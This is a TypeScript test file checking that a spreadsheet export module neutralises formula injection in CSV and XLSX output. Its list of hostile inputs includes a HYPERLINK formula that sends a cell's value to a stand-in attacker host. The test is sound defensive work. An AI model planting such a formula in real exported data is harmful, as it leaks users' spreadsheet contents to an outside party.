import * as XLSX from '@e965/xlsx';
import Papa from 'papaparse';
import { csvCell, FORMULA_TRIGGERS, startsLikeFormula, toCsv, toXlsx } from './spreadsheet';

describe('the rule against formula injection', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

  it('treats text that begins with =, +, -, @, tab or carriage return as a formula', () => {
    expect(FORMULA_TRIGGERS).toEqual(['=', '+', '-', '@', '\t', '\r']);
    for (const text of hostile) expect({ text, formula: startsLikeFormula(text) }).toEqual({ text, formula: true });
    for (const text of ['Publish the statement', ' =1', "'=1", '', '1-2', 'a=b', 'e-mail'])
      expect({ text, formula: startsLikeFormula(text) }).toEqual({ text, formula: false });
    // Numbers are numbers, negative ones too: they are never a formula.
    expect(startsLikeFormula(-3)).toBe(false);
    expect(startsLikeFormula(null)).toBe(false);
  });

  it('in CSV, prefixes such text with a single quote and leaves everything else as it is', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('Plain text')).toBe('Plain text');
    expect(csvCell(-1)).toBe(-1);
    expect(csvCell(null)).toBe('');
    const csv = toCsv({ name: 'x', columns: [{ header: 'Text' }, { header: 'Number' }], rows: hostile.map((h, i) => [h, i - 1]) });
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const parsed = Papa.parse<string[]>(csv.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(['Text', 'Number']);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
    expect(parsed.slice(1).map((r) => r[1])).toEqual(hostile.map((_, i) => String(i - 1)));
  });

  it('in XLSX, writes such text as a string cell (never a formula) with its text intact', async () => {
    const xlsx = await toXlsx([
      { name: 'Sheet', columns: [{ header: 'Text' }, { header: 'Number' }], rows: hostile.map((h, i) => [h, i]) },
    ]);
    const sheet = XLSX.read(xlsx).Sheets.Sheet;
    hostile.forEach((text, i) => {
      const cell = sheet[`A${i + 2}`];
      expect({ text, type: cell.t, value: cell.v, formula: cell.f }).toEqual({ text, type: 's', value: text, formula: undefined });
      expect(sheet[`B${i + 2}`]).toMatchObject({ t: 'n', v: i });
    });
  });
});
